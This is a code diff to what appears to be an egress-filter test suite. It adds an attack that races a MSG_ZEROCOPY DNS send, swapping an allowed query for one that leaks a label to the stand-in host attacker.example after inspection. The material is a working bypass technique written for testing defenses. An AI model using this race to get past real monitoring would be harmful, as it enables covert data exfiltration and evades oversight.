@@ -1,4 +1,6 @@
 """What the host itself may say, as a carrier: DNS, NTP, DHCP; and the metadata service."""
+import errno
+import mmap
 import os
 import signal
 import socket
@@ -6,6 +8,7 @@ import struct
 import time
 
 import craft
+from kernel import MSG_ZEROCOPY, SO_ZEROCOPY
 from table import attack, packed
 
 DNS, OTHER, METADATA = "DNS", "NTP and DHCP", "the metadata service"
@@ -173,6 +176,49 @@ def dns_segmented(t):
     s = t.socket()
     s.setsockopt(socket.IPPROTO_UDP, 103, len(head))
     s.sendto(head + second, (t.resolver, 53))
+
+
+@attack(DNS, "a query whose memory (MSG_ZEROCOPY) another thread changes behind the look", "cgroup", "shared-pages", families=(4,))
+def dns_zerocopy_changed(t):
+    sent = craft.query(f"{t.label}.{t.label}.attacker.example")
+    seen = craft.query(ALLOWED)
+    option = len(sent) - len(seen) - 11 - 4
+    seen = craft.query(ALLOWED, counts=(1, 0, 0, 1), tail=b"\0" + struct.pack("!HHIHHH", 41, 1232, 0, option + 4, 65001, option) + bytes(option))
+    page = mmap.mmap(-1, 4096)
+    page[:len(seen)] = seen
+    s = t.socket()
+    s.setsockopt(socket.SOL_SOCKET, SO_ZEROCOPY, 1)
+    s.connect((t.resolver, 53))
+    flipper = os.fork()
+    if not flipper:
+        signal.alarm(5)
+        while True:
+            page[:len(sent)] = sent
+            page[:len(seen)] = seen
+    refused = None
+    try:
+        for _ in range(4000):
+            try:
+                s.send(memoryview(page)[:len(seen)], MSG_ZEROCOPY)
+            except OSError as e:
+                if e.errno != errno.ENOBUFS:
+                    refused = e
+                else:
+                    reap(s)
+    finally:
+        os.kill(flipper, signal.SIGKILL)
+        os.waitpid(flipper, 0)
+    if refused:
+        raise refused
+
+
+def reap(s):
+    """The kernel's word that it is done with a page: until it is taken, it counts as memory of the socket."""
+    try:
+        while True:
+            s.recvmsg(64, 256, socket.MSG_ERRQUEUE | socket.MSG_DONTWAIT)
+    except BlockingIOError:
+        pass
 
 
 # ---- forged answers teach addresses ----
